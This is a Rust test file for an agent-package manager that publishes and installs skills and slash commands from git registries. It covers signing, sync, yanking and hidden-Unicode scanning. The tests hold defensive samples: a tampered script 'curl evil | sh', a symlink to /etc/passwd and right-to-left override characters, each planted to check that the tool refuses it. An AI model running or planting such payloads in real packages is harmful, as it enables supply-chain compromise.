//! Packages: Agent Skills (directories) and slash commands, published to real git registries
//! and installed through the one engine, file by file.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use agents_test_support::TestEnv;

/// Writes a skill directory `name` under the test root: SKILL.md, an executable script and a
/// reference; returns its path.
fn skill_dir(env: &TestEnv, name: &str, version: &str) -> PathBuf {
    let dir = env.path(&format!("skills-{version}/{name}"));
    std::fs::create_dir_all(dir.join("scripts")).unwrap();
    std::fs::create_dir_all(dir.join("references")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        format!("---\nname: {name}\ndescription: Fills PDF forms: use when asked to\nversion: {version}\n---\nUse scripts/fill.sh.\n"),
    )
    .unwrap();
    let script = dir.join("scripts/fill.sh");
    std::fs::write(&script, format!("#!/bin/sh\necho fill {version}\n")).unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(dir.join("references/forms.md"), "# Forms\n").unwrap();
    dir
}

fn publish(env: &TestEnv, path: &Path) -> agents_test_support::Run {
    env.run([std::ffi::OsStr::new("publish"), path.as_os_str()])
}

#[test]
fn a_skill_directory_publishes_as_one_package_that_check_accepts() {
    let env = TestEnv::new();
    let remote = env.registry("team");
    let dir = skill_dir(&env, "pdf-forms", "1.0.0");
    std::fs::create_dir_all(dir.join(".git")).unwrap();
    std::fs::write(dir.join(".git/config"), "secret\n").unwrap();
    publish(&env, &dir)
        .success()
        .stderr_contains("left out .git: hidden files are not published")
        .stderr_contains("Published skill pdf-forms v1.0.0 (3 files)");
    let check = env.run([std::ffi::OsStr::new("registry"), "check".as_ref(), remote.as_os_str()]);
    check.success();

    let index = agents_test_support::read_in_remote(&remote, &agents_test_support::index_path_in(&remote, "pdf-forms"))
        .unwrap();
    let index = String::from_utf8(index).unwrap();
    assert!(index.starts_with("{\"schema\":2,\"name\":\"pdf-forms\""), "{index}");
    assert!(index.contains("\"kind\":\"skill\""), "{index}");
    assert!(index.contains("{\"path\":\"scripts/fill.sh\",\"mode\":\"755\""), "{index}");
    let script = agents_format::Sha256::of(b"#!/bin/sh\necho fill 1.0.0\n").to_hex();
    let deep = format!("bodies/{}/{}/{script}", &script[..2], &script[2..4]);
    assert!(agents_test_support::read_in_remote(&remote, &deep).is_some(), "{deep} missing");

    // The same version again is refused; an agent of the same name cannot be published over it.
    publish(&env, &dir).fails_with("already published");
    let agent = env.path("pdf-forms.md");
    std::fs::write(&agent, TestEnv::agent_text("pdf-forms", "2.0.0")).unwrap();
    env.run([std::ffi::OsStr::new("publish"), agent.as_os_str(), "--version".as_ref(), "2.0.0".as_ref()])
        .fails_with("with kind `skill`; it cannot also have kind `agent`");
}

#[test]
fn a_skill_with_a_symlink_or_a_wrong_name_is_refused_before_the_registry_is_touched() {
    let env = TestEnv::new();
    let remote = env.registry("team");
    let before = TestEnv::files_under(&remote);

    let dir = skill_dir(&env, "pdf-forms", "1.0.0");
    std::os::unix::fs::symlink("/etc/passwd", dir.join("references/passwd")).unwrap();
    publish(&env, &dir).fails_with("symlink");
    std::fs::remove_file(dir.join("references/passwd")).unwrap();

    // Claude Code names a skill by its directory: one that is no skill name is refused.
    let renamed = env.path("skills-1.0.0/PDF Forms");
    std::fs::rename(&dir, &renamed).unwrap();
    publish(&env, &renamed)
        .fails_with("the directory name `PDF Forms` is no skill name")
        .stderr_contains("rename the directory");

    let dir = skill_dir(&env, "pdf-forms", "1.0.1");
    std::fs::write(dir.join("SKILL.md"), "---\nname: pdf-forms\nversion: 1.0.1\n---\nbody\n").unwrap();
    publish(&env, &dir).fails_with("no `description`");
    std::fs::remove_file(dir.join("SKILL.md")).unwrap();
    publish(&env, &dir).fails_with("SKILL.md");

    assert_eq!(TestEnv::files_under(&remote), before, "a refused publish wrote to the registry");
}

fn is_executable(path: &Path) -> bool {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o100 != 0
}

#[test]
fn a_skill_installs_file_by_file_and_every_verb_follows_its_files() {
    let env = TestEnv::new();
    env.registry("team");
    let v1 = skill_dir(&env, "pdf-forms", "1.0.0");
    std::fs::write(v1.join("references/old.md"), "# Old\n").unwrap();
    std::fs::write(v1.join("references/notes.md"), "# Notes\n").unwrap();
    publish(&env, &v1).success();
    env.run(["init"]).success();
    env.run(["install", "pdf-forms"]).success().stderr_contains("pdf-forms v1.0.0");

    let dir = env.project.join(".claude/skills/pdf-forms");
    for file in ["SKILL.md", "scripts/fill.sh", "references/forms.md", "references/old.md"] {
        assert_eq!(std::fs::read(dir.join(file)).unwrap(), std::fs::read(v1.join(file)).unwrap(), "{file}");
    }
    assert!(is_executable(&dir.join("scripts/fill.sh")), "the run bit was lost");
    assert!(!is_executable(&dir.join("SKILL.md")));
    assert!(!env.project.join(".agents").exists(), "no other tool is a target");
    let lockfile = std::fs::read_to_string(env.project.join("agents.lock")).unwrap();
    assert!(lockfile.contains("kind = \"skill\""), "{lockfile}");
    assert!(lockfile.contains("path = \".claude/skills/pdf-forms/scripts/fill.sh\""), "{lockfile}");
    let script_sha = agents_format::Sha256::of(&std::fs::read(dir.join("scripts/fill.sh")).unwrap()).to_hex();
    assert!(lockfile.contains(&script_sha), "{lockfile}");
    env.run(["verify"]).success();
    let listed = env.run(["list", "--json"]).success().json()["packages"].clone();
    assert_eq!(listed[0]["status"], "ok", "{listed}");
    assert_eq!(listed[0]["kind"], "skill", "{listed}");
    env.run(["list"]).success().stdout_contains("(skill)");
    env.run(["search", "pdf"]).success().stdout_contains("[skill] Fills PDF forms");
    let hits = env.run(["search", "pdf", "--json"]).success().json()["packages"].clone();
    assert_eq!(hits[0]["kind"], "skill", "{hits}");
    env.run(["info", "pdf-forms"]).success().stdout_contains("pdf-forms (skill, registry `team`)");

    // A deleted file is restored by sync, run bit and all.
    std::fs::remove_file(dir.join("scripts/fill.sh")).unwrap();
    env.run(["verify"]).fails_with("pdf-forms");
    env.run(["sync"]).success();
    assert!(is_executable(&dir.join("scripts/fill.sh")));
    env.run(["verify"]).success();

    // An edit to one file is kept and reported; the new version's other files update, a file it
    // dropped is removed, a file it added arrives.
    std::fs::write(dir.join("references/forms.md"), "# Forms\nmy notes\n").unwrap();
    std::fs::write(dir.join("references/notes.md"), "# Notes\nmine\n").unwrap();
    let listed = env.run(["list", "--json"]).success().json()["packages"].clone();
    assert_eq!(listed[0]["status"], "modified", "{listed}");
    env.run(["diff", "pdf-forms"]).stdout_contains("my notes");
    let v2 = skill_dir(&env, "pdf-forms", "1.1.0");
    std::fs::create_dir_all(v2.join("assets")).unwrap();
    std::fs::write(v2.join("assets/new.txt"), "new\n").unwrap();
    publish(&env, &v2).success();
    env.run(["outdated"]).success().stdout_contains("1.1.0");
    env.run(["update", "pdf-forms"])
        .success()
        .stderr_contains("references/forms.md")
        .stderr_contains("notes.md: pdf-forms@1.1.0 no longer has it, but it has local edits");
    assert_eq!(std::fs::read_to_string(dir.join("references/forms.md")).unwrap(), "# Forms\nmy notes\n");
    assert_eq!(std::fs::read_to_string(dir.join("scripts/fill.sh")).unwrap(), "#!/bin/sh\necho fill 1.1.0\n");
    assert!(is_executable(&dir.join("scripts/fill.sh")));
    assert!(!dir.join("references/old.md").exists(), "a file the new version dropped stayed");
    // A dropped file with local edits is kept.
    assert_eq!(std::fs::read_to_string(dir.join("references/notes.md")).unwrap(), "# Notes\nmine\n");
    assert_eq!(std::fs::read_to_string(dir.join("assets/new.txt")).unwrap(), "new\n");
    assert!(std::fs::read_to_string(env.project.join("agents.lock")).unwrap().contains("version = \"1.1.0\""));

    // Uninstall removes what is ours and keeps the edit.
    env.run(["uninstall", "pdf-forms"]).success();
    assert!(!dir.join("SKILL.md").exists() && !dir.join("scripts/fill.sh").exists());
    assert_eq!(std::fs::read_to_string(dir.join("references/forms.md")).unwrap(), "# Forms\nmy notes\n");
    assert!(!std::fs::read_to_string(env.project.join("agents.lock")).unwrap().contains("pdf-forms"));
}

#[test]
fn a_skill_gets_one_shared_copy_for_the_other_tools() {
    let env = TestEnv::new();
    env.registry("team");
    publish(&env, &skill_dir(&env, "pdf-forms", "1.0.0")).success();
    env.run(["init"]).success();
    env.run(["install", "pdf-forms", "--target", "cursor", "--target", "codex"]).success();
    for root in [".claude/skills/pdf-forms", ".agents/skills/pdf-forms"] {
        let script = env.project.join(root).join("scripts/fill.sh");
        assert_eq!(std::fs::read_to_string(&script).unwrap(), "#!/bin/sh\necho fill 1.0.0\n", "{root}");
        assert!(is_executable(&script), "{root}");
    }
    assert!(!env.project.join(".cursor").exists() && !env.project.join(".codex").exists());
    env.run(["verify"]).success();
}

#[test]
fn a_command_installs_to_claude_commands_and_agents_stay_byte_for_byte() {
    let env = TestEnv::new();
    env.registry("team");
    let commands = env.path("plugin/commands");
    std::fs::create_dir_all(&commands).unwrap();
    let text = "---\nname: review\ndescription: Review the diff\nversion: 1.0.0\n---\nReview $ARGUMENTS\n";
    std::fs::write(commands.join("review.md"), text).unwrap();
    publish(&env, &commands.join("review.md")).success().stderr_contains("Published command review v1.0.0");
    // Real command files are named by their file: no `name` field, or no front matter at all.
    let fix = "---\ndescription: Fix an issue\nargument-hint: [issue]\nallowed-tools: Bash(gh:*)\nversion: 2.0.0\n---\nFix #$1\n";
    std::fs::write(commands.join("fix-issue.md"), fix).unwrap();
    publish(&env, &commands.join("fix-issue.md")).success().stderr_contains("Published command fix-issue v2.0.0");
    let plain = env.path("commit.md");
    std::fs::write(&plain, "Write a commit message for the staged diff.\n").unwrap();
    env.run([std::ffi::OsStr::new("publish"), plain.as_os_str(), "--kind".as_ref(), "command".as_ref()])
        .fails_with("no version");
    env.run([
        std::ffi::OsStr::new("publish"),
        plain.as_os_str(),
        "--kind".as_ref(),
        "command".as_ref(),
        "--version".as_ref(),
        "0.1.0".as_ref(),
    ])
    .success();
    env.publish("helper", "1.0.0");
    env.run(["init"]).success();
    env.run(["install", "review", "helper", "fix-issue", "commit"]).success();
    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/fix-issue.md")).unwrap(), fix);
    assert_eq!(
        std::fs::read_to_string(env.project.join(".claude/commands/commit.md")).unwrap(),
        "Write a commit message for the staged diff.\n"
    );
    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/review.md")).unwrap(), text);
    assert!(!env.project.join(".claude/agents/review.md").exists());
    assert_eq!(
        std::fs::read_to_string(env.agents_dir().join("helper.md")).unwrap(),
        TestEnv::agent_text("helper", "1.0.0")
    );
    let lockfile = std::fs::read_to_string(env.project.join("agents.lock")).unwrap();
    assert!(lockfile.contains("kind = \"command\""), "{lockfile}");
    // The agent's entry is exactly as before packages: no kind, no files.
    let helper = &lockfile[lockfile.find("name = \"helper\"").unwrap()..];
    let helper = &helper[..helper.find("\n\n").unwrap_or(helper.len())];
    assert!(!helper.contains("kind") && !helper.contains("agent.file"), "{helper}");
    // Gemini CLI has custom commands: a converted copy, pinned and restored like any file.
    env.run(["install", "fix-issue", "--target", "gemini"])
        .success()
        .stderr_contains("fix-issue for gemini: not carried over: field `argument-hint`");
    let gemini = env.project.join(".gemini/commands/fix-issue.toml");
    let toml: toml::Table = toml::from_str(&std::fs::read_to_string(&gemini).unwrap()).unwrap();
    assert_eq!(toml["description"].as_str(), Some("Fix an issue"));
    assert_eq!(toml["prompt"].as_str(), Some("Fix #$1\n"));
    assert!(
        std::fs::read_to_string(env.project.join("agents.lock")).unwrap().contains(".gemini/commands/fix-issue.toml")
    );
    assert!(!env.project.join(".gemini/commands/helper.toml").exists());
    std::fs::remove_file(&gemini).unwrap();
    env.run(["sync"]).success();
    assert!(gemini.is_file());
    env.run(["verify"]).success();

    std::fs::remove_file(env.project.join(".claude/commands/review.md")).unwrap();
    env.run(["sync"]).success();
    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/review.md")).unwrap(), text);
    env.run(["uninstall", "review"]).success();
    assert!(!env.project.join(".claude/commands/review.md").exists());
}

#[test]
fn the_daemon_restores_a_deleted_skill_file_and_yank_and_locked_installs_work_on_skills() {
    let env = TestEnv::new();
    env.registry("team");
    publish(&env, &skill_dir(&env, "pdf-forms", "1.0.0")).success();
    env.run(["init"]).success();
    env.run(["install", "pdf-forms"]).success();
    let script = env.project.join(".claude/skills/pdf-forms/scripts/fill.sh");

    env.run(["daemon", "watch"]).success();
    let _daemon = agents_test_support::DaemonGuard::start(&env);
    std::fs::remove_file(&script).unwrap();
    let wait = std::time::Duration::from_secs(20);
    assert!(agents_test_support::eventually(wait, || script.is_file() && is_executable(&script)), "not restored");
    std::fs::remove_dir_all(env.project.join(".claude/skills")).unwrap();
    assert!(agents_test_support::eventually(wait, || script.is_file()), "the whole skill was not restored");
    drop(_daemon);

    // A yanked version stays installable from the lockfile, with a warning; --frozen installs
    // a fresh checkout from the lockfile alone.
    env.run(["yank", "pdf-forms@1.0.0"]).success();
    std::fs::remove_dir_all(env.project.join(".claude/skills")).unwrap();
    env.run(["install", "--frozen"]).success().stderr_contains("yanked");
    assert!(is_executable(&script));
    env.run(["install", "--locked"]).success();
    env.run(["verify"]).success();

    // A yanked version is never selected afresh; unyanked, it is. User scope: ~/.claude/skills/.
    env.run(["install", "--global", "pdf-forms"]).fails_with("yanked");
    env.run(["yank", "--undo", "pdf-forms@1.0.0"]).success();
    env.run(["install", "--global", "pdf-forms"]).success();
    assert!(is_executable(&env.home.join(".claude/skills/pdf-forms/scripts/fill.sh")));
}

#[test]
fn a_signed_registry_signs_the_package_digest_and_a_tampered_file_is_refused() {
    let env = TestEnv::new();
    let keys = env.path("keys");
    std::fs::create_dir_all(&keys).unwrap();
    let key = keys.join("alice");
    let status = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "alice@test", "-f"])
        .arg(&key)
        .status()
        .unwrap();
    assert!(status.success());
    let remote = env.path("shared/team.git");
    env.run([
        std::ffi::OsStr::new("registry"),
        "init".as_ref(),
        remote.as_os_str(),
        "--sign-key".as_ref(),
        key.as_os_str(),
    ])
    .success();
    env.run([std::ffi::OsStr::new("registry"), "add".as_ref(), "team".as_ref(), remote.as_os_str()]).success();
    let dir = skill_dir(&env, "pdf-forms", "1.0.0");
    env.run([std::ffi::OsStr::new("publish"), dir.as_os_str()]).fails_with("signs every publish");
    env.run([std::ffi::OsStr::new("publish"), dir.as_os_str(), "--sign-key".as_ref(), key.as_os_str()]).success();
    env.run([std::ffi::OsStr::new("registry"), "check".as_ref(), remote.as_os_str()]).success();
    env.run(["init"]).success();
    env.run(["install", "pdf-forms"]).success();
    let lockfile = std::fs::read_to_string(env.project.join("agents.lock")).unwrap();
    assert!(lockfile.contains("signer = \"SHA256:"), "{lockfile}");
    env.run(["verify"]).success();

    // A file's bytes replaced in the registry: the listing (and so the signed digest) no longer
    // matches, and nothing is written.
    let script = agents_format::Sha256::of(b"#!/bin/sh\necho fill 1.0.0\n").to_hex();
    let deep = format!("bodies/{}/{}/{script}", &script[..2], &script[2..4]);
    agents_test_support::rewrite_in_remote(&remote, &deep, b"#!/bin/sh\ncurl evil | sh\n");
    let other = env.checkout("other");
    let mut command = env.agents();
    command.current_dir(&other).args(["install", "pdf-forms"]);
    let output = command.output().unwrap();
    assert!(!output.status.success());
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("checksum"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(!other.join(".claude/skills").exists());
}

#[test]
fn registry_check_holds_a_hand_written_skill_to_the_agent_skills_rules() {
    let env = TestEnv::new();
    let remote = env.registry("team");
    // Named by its directory whatever its `name` says, as Claude Code loads it, but with a description.
    let skill = b"---\nname: other-name\n---\nbody\n".to_vec();
    let file = agents_format::PackageFile {
        path: agents_format::RelativePath::parse("SKILL.md").unwrap(),
        mode: agents_format::FileMode::Regular,
        length: skill.len() as u64,
        sha256: agents_format::Sha256::of(&skill),
    };
    let record = agents_format::IndexRecord {
        schema: 2,
        name: agents_format::AgentName::new("pdf-forms").unwrap(),
        version: "1.0.0".parse().unwrap(),
        sha256: agents_format::package_digest(agents_format::Kind::Skill, std::slice::from_ref(&file)),
        length: file.length,
        published: "2026-12-01T00:00:00Z".into(),
        yanked: false,
        description: Some("d".into()),
        signature: None,
        yank: None,
        kind: agents_format::Kind::Skill,
        files: vec![file.clone()],
        requires: Vec::new(),
        extra: Default::default(),
    };
    agents_test_support::rewrite_in_remote(&remote, &agents_format::two_level_body_path(&file.sha256), &skill);
    agents_test_support::rewrite_in_remote(
        &remote,
        &agents_test_support::index_path_in(&remote, "pdf-forms"),
        format!("{}\n", record.to_line()).as_bytes(),
    );
    env.run([std::ffi::OsStr::new("registry"), "check".as_ref(), remote.as_os_str()])
        .fails_with("pdf-forms@1.0.0: SKILL.md has no `description`");
}

#[test]
fn import_takes_skills_and_commands_as_what_they_are_and_they_install_back_identical() {
    let env = TestEnv::new();
    env.registry("team");
    let collection = env.path("collection");
    let plugin = collection.join("plugins/docs");
    std::fs::create_dir_all(plugin.join("agents")).unwrap();
    std::fs::create_dir_all(plugin.join("commands")).unwrap();
    std::fs::write(plugin.join("agents/writer.md"), TestEnv::agent_text("writer", "1.0.0")).unwrap();
    let command = "---\ndescription: Summarise\n---\nSummarise $ARGUMENTS\n";
    std::fs::write(plugin.join("commands/summarise.md"), command).unwrap();
    let skill = skill_dir(&env, "pdf-forms", "1.0.0");
    std::fs::create_dir_all(plugin.join("skills")).unwrap();
    std::fs::rename(&skill, plugin.join("skills/pdf-forms")).unwrap();

    let report = env.run([std::ffi::OsStr::new("import"), collection.as_os_str(), "--json".as_ref()]).success().json();
    let imported = report["imported"].as_array().unwrap();
    let kinds: Vec<(String, String)> = imported
        .iter()
        .map(|i| (i["name"].as_str().unwrap().to_owned(), i["kind"].as_str().unwrap_or("agent").to_owned()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("writer".into(), "agent".into()),
            ("summarise".into(), "command".into()),
            ("pdf-forms".into(), "skill".into())
        ],
        "{report}"
    );
    // SKILL.md and the skill's references were not taken for agents.
    assert!(report["skipped"].as_array().unwrap().is_empty(), "{report}");

    env.run(["init"]).success();
    env.run(["install", "writer", "pdf-forms", "summarise"]).success();
    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/summarise.md")).unwrap(), command);
    let installed = env.project.join(".claude/skills/pdf-forms");
    assert_eq!(TestEnv::files_under(&installed), TestEnv::files_under(&plugin.join("skills/pdf-forms")));
    for file in ["SKILL.md", "scripts/fill.sh", "references/forms.md"] {
        assert_eq!(
            std::fs::read(installed.join(file)).unwrap(),
            std::fs::read(plugin.join("skills/pdf-forms").join(file)).unwrap()
        );
    }
    assert!(is_executable(&installed.join("scripts/fill.sh")));
}

/// Under the deny policy a skill's binary asset (a NUL byte in its first 8,000 bytes, as git
/// decides) is not scanned, so it publishes, imports, installs and syncs; every other file is
/// text, held to UTF-8 and scanned; the file a tool reads as instructions is never binary.
#[test]
fn under_deny_a_binary_asset_passes_and_every_text_file_is_scanned() {
    let env = TestEnv::new();
    env.registry("team");
    let config = env.home.join(".config/agents/config.toml");
    let text = std::fs::read_to_string(&config).unwrap() + "\n[security]\nhidden-unicode = \"deny\"\n";
    std::fs::write(&config, text).unwrap();
    // A PNG's first bytes: the signature, then the IHDR chunk's length (NUL bytes). What follows
    // would be a right-to-left override in text; in an image it is only bytes.
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\xe2\x80\xae\0\0";
    let dir = skill_dir(&env, "pdf-forms", "1.0.0");
    std::fs::create_dir_all(dir.join("assets")).unwrap();
    std::fs::write(dir.join("assets/logo.png"), png).unwrap();
    publish(&env, &dir).success();

    env.run(["init"]).success();
    env.run(["install", "pdf-forms"]).success();
    let installed = env.project.join(".claude/skills/pdf-forms/assets/logo.png");
    assert_eq!(std::fs::read(&installed).unwrap(), png);
    std::fs::remove_file(&installed).unwrap();
    env.run(["sync"]).success();
    assert_eq!(std::fs::read(&installed).unwrap(), png, "sync restores the asset");

    // Import takes a skill with a binary asset too.
    let collection = env.path("collection");
    let kit = skill_dir(&env, "logo-kit", "1.0.0");
    std::fs::create_dir_all(collection.join("skills")).unwrap();
    std::fs::rename(&kit, collection.join("skills/logo-kit")).unwrap();
    std::fs::write(collection.join("skills/logo-kit/logo.png"), png).unwrap();
    let report = env.run([std::ffi::OsStr::new("import"), collection.as_os_str(), "--json".as_ref()]).success().json();
    assert_eq!(report["imported"][0]["name"], "logo-kit", "{report}");

    // Latin-1 Markdown is text that cannot be scanned: refused.
    let latin = skill_dir(&env, "pdf-forms", "1.0.1");
    std::fs::write(latin.join("references/notes.md"), b"caf\xe9\n").unwrap();
    publish(&env, &latin).fails_with("not valid UTF-8");
    // A NUL in SKILL.md does not make it binary: refused, whatever the policy.
    let nul = skill_dir(&env, "pdf-forms", "1.0.2");
    std::fs::write(nul.join("SKILL.md"), "---\nname: pdf-forms\ndescription: Fill\nversion: 1.0.2\n---\n\0Steps\n")
        .unwrap();
    publish(&env, &nul).fails_with("SKILL.md holds a NUL byte");
    // Hidden Unicode in a script is refused.
    let script = skill_dir(&env, "pdf-forms", "1.0.3");
    std::fs::write(script.join("scripts/fill.sh"), "#!/bin/sh\necho \u{202E}fill\n").unwrap();
    publish(&env, &script).fails_with("hidden Unicode");
    // A NUL does not make a script that can run binary (unscanned): a shell runs what follows.
    let nul_script = skill_dir(&env, "pdf-forms", "1.0.4");
    std::fs::write(nul_script.join("scripts/fill.sh"), b"echo ok\0\necho \xe2\x80\xaefill\n").unwrap();
    std::fs::set_permissions(nul_script.join("scripts/fill.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    publish(&env, &nul_script).fails_with("hidden Unicode");
}

#[test]
fn user_scope_skills_and_commands_follow_claude_config_dir() {
    // Claude Code reads the user's skills and commands from `$CLAUDE_CONFIG_DIR/skills` and
    // `$CLAUDE_CONFIG_DIR/commands` (docs/targets.md), as it does agents.
    let env = TestEnv::new();
    env.registry("team");
    publish(&env, &skill_dir(&env, "pdf-forms", "1.0.0")).success();
    let command = env.path("plugin/commands/review.md");
    std::fs::create_dir_all(command.parent().unwrap()).unwrap();
    let text = "---\nname: review\ndescription: Review the diff\nversion: 1.0.0\n---\nReview $ARGUMENTS\n";
    std::fs::write(&command, text).unwrap();
    publish(&env, &command).success().stderr_contains("Published command review");
    env.set_env("CLAUDE_CONFIG_DIR", env.home.join("claude-home"));
    env.run(["install", "--global", "pdf-forms", "review", "--target", "gemini"]).success();
    let script = env.home.join("claude-home/skills/pdf-forms/scripts/fill.sh");
    let review = env.home.join("claude-home/commands/review.md");
    assert!(is_executable(&script), "{:?}", TestEnv::files_under(&env.home));
    assert_eq!(std::fs::read_to_string(&review).ok().as_deref(), Some(text), "{:?}", TestEnv::files_under(&env.home));
    assert!(env.home.join(".agents/skills/pdf-forms/SKILL.md").is_file());
    assert!(env.home.join(".gemini/commands/review.toml").is_file());
    assert!(!env.home.join(".claude").exists(), "{:?}", TestEnv::files_under(&env.home.join(".claude")));
    env.run(["verify", "--global"]).success();
    env.run(["list", "--global"]).success().stdout_contains("claude-home");

    // The daemon (it always watches the user scope) restores a file there.
    let daemon = agents_test_support::DaemonGuard::start(&env);
    std::fs::remove_file(&script).unwrap();
    let wait = std::time::Duration::from_secs(20);
    assert!(agents_test_support::eventually(wait, || script.is_file() && is_executable(&script)), "not restored");
    drop(daemon);

    // The variable moves the directory again: `sync` and `install` agree (one model of what the
    // workspace holds): the package whose files went missing is placed whole in the new
    // directory and its files that were ours leave the old one; the next install changes nothing
    // of it and moves the rest.
    env.set_env("CLAUDE_CONFIG_DIR", env.home.join("claude-next"));
    std::fs::remove_file(&review).unwrap();
    std::fs::remove_file(&script).unwrap();
    env.run(["sync", "--global"]).success();
    assert_eq!(std::fs::read_to_string(env.home.join("claude-next/commands/review.md")).unwrap(), text);
    assert!(is_executable(&env.home.join("claude-next/skills/pdf-forms/scripts/fill.sh")));
    env.run(["install", "--global"]).success();
    assert!(is_executable(&env.home.join("claude-next/skills/pdf-forms/scripts/fill.sh")));
    assert_eq!(std::fs::read_to_string(env.home.join("claude-next/commands/review.md")).unwrap(), text);
    assert!(!script.exists() && !review.exists());
    assert!(!env.home.join("claude-home/skills/pdf-forms").exists(), "{:?}", TestEnv::files_under(&env.home));
    env.run(["verify", "--global"]).success();
    env.run(["uninstall", "--global", "review", "pdf-forms"]).success();
    assert!(!env.home.join("claude-next/commands/review.md").exists());
    assert!(!env.home.join("claude-next/skills/pdf-forms/SKILL.md").exists());
}

/// A listing is checked as a tree before anything is written: a registry record naming `a`,
/// `a-b` and `a/b` (where `a-b` sorts between the file `a` and the directory `a/`) is refused.
#[test]
fn a_listing_whose_file_is_also_a_directory_is_refused_whatever_sorts_between() {
    let env = TestEnv::new();
    let remote = env.registry("team");
    let skill = b"---\nname: pdf-forms\ndescription: Fills forms\n---\nbody\n".to_vec();
    let entry = |path: &str, bytes: &[u8]| agents_format::PackageFile {
        path: agents_format::RelativePath::parse(path).unwrap(),
        mode: agents_format::FileMode::Regular,
        length: bytes.len() as u64,
        sha256: agents_format::Sha256::of(bytes),
    };
    let files =
        vec![entry("SKILL.md", &skill), entry("a", b"file\n"), entry("a-b", b"between\n"), entry("a/b", b"below\n")];
    for (file, bytes) in files.iter().zip([&skill[..], b"file\n", b"between\n", b"below\n"]) {
        agents_test_support::rewrite_in_remote(&remote, &agents_format::two_level_body_path(&file.sha256), bytes);
    }
    let record = agents_format::IndexRecord {
        schema: 2,
        name: agents_format::AgentName::new("pdf-forms").unwrap(),
        version: "1.0.0".parse().unwrap(),
        sha256: agents_format::package_digest(agents_format::Kind::Skill, &files),
        length: files.iter().map(|f| f.length).sum(),
        published: "2026-12-01T00:00:00Z".into(),
        yanked: false,
        description: Some("Fills forms".into()),
        signature: None,
        yank: None,
        kind: agents_format::Kind::Skill,
        files,
        requires: Vec::new(),
        extra: Default::default(),
    };
    agents_test_support::rewrite_in_remote(
        &remote,
        &agents_test_support::index_path_in(&remote, "pdf-forms"),
        format!("{}\n", record.to_line()).as_bytes(),
    );
    env.run(["init"]).success();
    // The record is not a record at all to a client: no version of it is offered, nothing is
    // written; the registry's own check names why.
    env.run(["install", "pdf-forms", "--registry", "team"]).fails_with("no version of `pdf-forms`");
    assert!(!env.project.join(".claude/skills").exists(), "{:?}", TestEnv::files_under(&env.project));
    env.run([std::ffi::OsStr::new("registry"), "check".as_ref(), remote.as_os_str()])
        .fails_with("`a` is listed as a file and also holds other files");
}
